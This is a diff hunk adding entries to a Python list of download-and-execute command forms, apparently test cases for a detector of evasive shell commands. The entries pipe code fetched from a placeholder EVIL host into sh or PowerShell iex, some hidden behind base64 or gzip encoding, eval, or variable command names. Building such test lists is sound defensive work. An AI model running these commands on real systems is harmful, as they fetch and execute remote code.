@@ -290,6 +290,9 @@ DOWNLOAD_FORMS: list[tuple[str, str]] = [
     ("base64_literal_in_bash_c", f'bash -c "$(echo {B64_CURL_SH} | base64 -d)"'),
     ("gzip_base64_here_string", f"base64 -d <<< {GZ_B64_WGET} | gunzip | sh"),
     ("base64_python_program", f'python3 -c "$(echo {B64_PY_FETCH_EXEC} | base64 -d)"'),
+    ("command_name_default_expansion", f"${{CURL:-curl}} -s {EVIL} | sh"),
+    ("command_name_not_fixed", f"$FETCH {EVIL} | sh"),
+    ("eval_fetch_piped", f"eval curl -s {EVIL} | sh"),
     ("powershell_iex", f"powershell -Command \"iex ((New-Object Net.WebClient).DownloadString('{EVIL}'))\""),
 ]
 
